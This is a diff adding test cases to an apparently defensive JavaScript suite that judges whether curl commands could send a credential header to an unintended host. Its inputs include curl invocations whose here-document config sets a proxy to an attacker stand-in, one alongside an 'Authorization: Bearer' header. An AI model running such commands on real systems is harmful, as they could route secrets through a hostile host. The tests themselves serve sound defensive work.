@@ -424,6 +424,27 @@ describe('who may get the header', () => {
         /^unknown 1: only the shell knows its header \$H$/,
         /^unknown/,
       ],
+      [
+        'options in a here-document',
+        posixFormat,
+        `curl --config - <<EOF\nurl = ${url}\nproxy = ${evil}\nEOF\n`,
+        /^elsewhere 0$/,
+        /^elsewhere 0$/,
+      ],
+      [
+        'options in a here-document beside a header',
+        posixFormat,
+        `curl -H 'Authorization: Bearer x' --config - ${url} <<EOF\nproxy = ${evil}\nEOF\n`,
+        /^unknown 0: its command has --config$/,
+        /^unknown/,
+      ],
+      [
+        'a form in a here-document',
+        posixFormat,
+        `curl ${url} -d @- <<EOF\nscope=$X\nEOF\n`,
+        /^changed 1$/,
+        /^changed 1$/,
+      ],
       ['a value of a header', posixFormat, `curl -H "X: $H" ${url}\n`, /^changed 1$/, /^changed 1$/],
       [
         'a name of a header',
